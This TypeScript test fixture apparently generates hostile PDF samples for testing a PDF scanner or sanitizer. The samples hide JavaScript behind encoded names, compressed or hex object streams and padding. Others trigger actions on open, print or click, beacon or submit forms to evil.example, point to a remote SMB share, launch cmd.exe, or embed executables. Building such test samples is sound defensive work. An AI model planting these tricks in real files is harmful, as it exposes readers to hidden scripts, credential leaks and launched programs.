import { deflateSync } from 'node:zlib'

const SCRIPT = '/S/JavaScript/JS(app.alert(1))'

/** Returns a stream of packed objects, packed as its dictionary says. */
export function packed(objects: string, { filter = '/Filter/FlateDecode', more = '', pack = (text: Buffer) => deflateSync(text) } = {}) {
  const bytes = pack(Buffer.from(objects, 'latin1')).toString('latin1')
  const first = objects.indexOf('<<')
  return `5 0 obj<<${more}/Type/ObjStm/N 1/First ${first}${filter}/Length ${bytes.length}>>stream\n${bytes}\nendstream endobj`
}
const inHex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`, 'latin1')
const packedScript = `4 0 <<${SCRIPT}>>`

interface Parts {
  /** Entries of the catalog, and of the only page. */
  readonly catalog?: string
  readonly page?: string
  /** Further objects, from number 4. */
  readonly objects?: string
}

/** Returns a PDF of one page that shows "Ada Reyes, brand ambassador". */
export function aPdfWith({ catalog = '', page = '', objects = '' }: Parts = {}) {
  const text = 'BT /F1 24 Tf 72 700 Td (Ada Reyes, brand ambassador) Tj ET'
  const font = '/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>'
  return Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1${font}>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 8 0 R${page}>>endobj
8 0 obj<</Length ${text.length}>>stream\n${text}\nendstream endobj\n${objects}
xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 9>>\nstartxref\n0\n%%EOF\n`,
    'latin1',
  )
}

const opened = '/OpenAction 4 0 R'
const action = (entries: string) => ({ catalog: opened, objects: `4 0 obj<<${entries}>>endobj` })
const hidden = (stream: string) => ({ catalog: opened, objects: stream })
const annotation = (entries: string) => ({ page: `/Annots[<</Type/Annot/Rect[0 0 9 9]${entries}>>]` })
const FILE = '4 0 obj<</Type/EmbeddedFile/Length 4>>stream\nMZ90\nendstream endobj'

/** PDFs that act when they are opened, printed or clicked, each with its trick. */
export const hostilePdfs: readonly (readonly [trick: string, file: Buffer])[] = Object.entries({
  'a script': action(SCRIPT),
  'a script under another spelling': action('/S/J#61va#53cript/J#53(app.alert(1))'),
  'a script in packed objects': hidden(packed(packedScript)),
  'a script behind two filters': hidden(
    packed(packedScript, { filter: '/Filter[/ASCIIHexDecode/FlateDecode]', pack: (text) => inHex(deflateSync(text)) }),
  ),
  'a script in hexadecimal': hidden(packed(packedScript, { filter: '/Filter/ASCIIHexDecode', pack: inHex })),
  'a script behind a long dictionary': hidden(packed(packedScript, { more: `/Pad(${'x'.repeat(600)})` })),
  'a script behind the name of an object': hidden(packed(packedScript, { more: '/Pad(1 0 obj)' })),
  'a script by name': { catalog: '/Names<</JavaScript<</Names[(a)4 0 R]>>>>', objects: `4 0 obj<<${SCRIPT}>>endobj` },
  'a script when it is printed': { catalog: `/AA<</WP<<${SCRIPT}>>>>` },
  'a script when the page opens': { page: `/AA<</O<<${SCRIPT}>>>>` },
  'a script of a link': annotation(`/Subtype/Link/A<<${SCRIPT}>>`),
  'a script in a bookmark': { catalog: `/Outlines<</First<</Title(a)/A<<${SCRIPT}>>>>>>` },
  'a script in a font': { page: `/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica/AA<</O<<${SCRIPT}>>>>>>>>>>` },
  'an address that opens by itself': action('/S/URI/URI(https://evil.example/seen)'),
  'an address of a program': annotation('/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>'),
  'a share of another computer': action('/S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]'),
  'a link to a share': annotation('/Subtype/Link/A<</S/GoToR/F(\\\\\\\\evil.example\\\\share)/D[0/Fit]>>'),
  'a picture of another computer': {
    page: '/Resources<</XObject<</X 4 0 R>>>>',
    objects:
      '4 0 obj<</Type/XObject/Subtype/Image/Width 1/Height 1/F<</FS/URL/F(https://evil.example/x)>>/Length 0>>stream\n\nendstream endobj',
  },
  'a program to start': action('/S/Launch/F(cmd.exe)'),
  'a film': annotation('/Subtype/Movie/Movie<</F(evil.mov)>>'),
  'a rendition': annotation(`/Subtype/Screen/A<</S/Rendition/OP 0/JS(app.alert(1))>>`),
  'a form to send': annotation('/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(https://evil.example)>>'),
  'an XFA form': { catalog: '/AcroForm<</XFA 4 0 R/Fields[]>>', objects: FILE },
  'a file inside': { catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<</F 4 0 R>>>>]>>>>', objects: FILE },
  'a file pinned to the page': {
    ...annotation('/Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 4 0 R>>>>'),
    objects: FILE,
  },
  'an associated file': { catalog: '/AF[<</F(a.exe)/EF<</F 4 0 R>>>>]', objects: FILE },
} satisfies Record<string, Parts>).map(([trick, parts]) => [trick, aPdfWith(parts)])
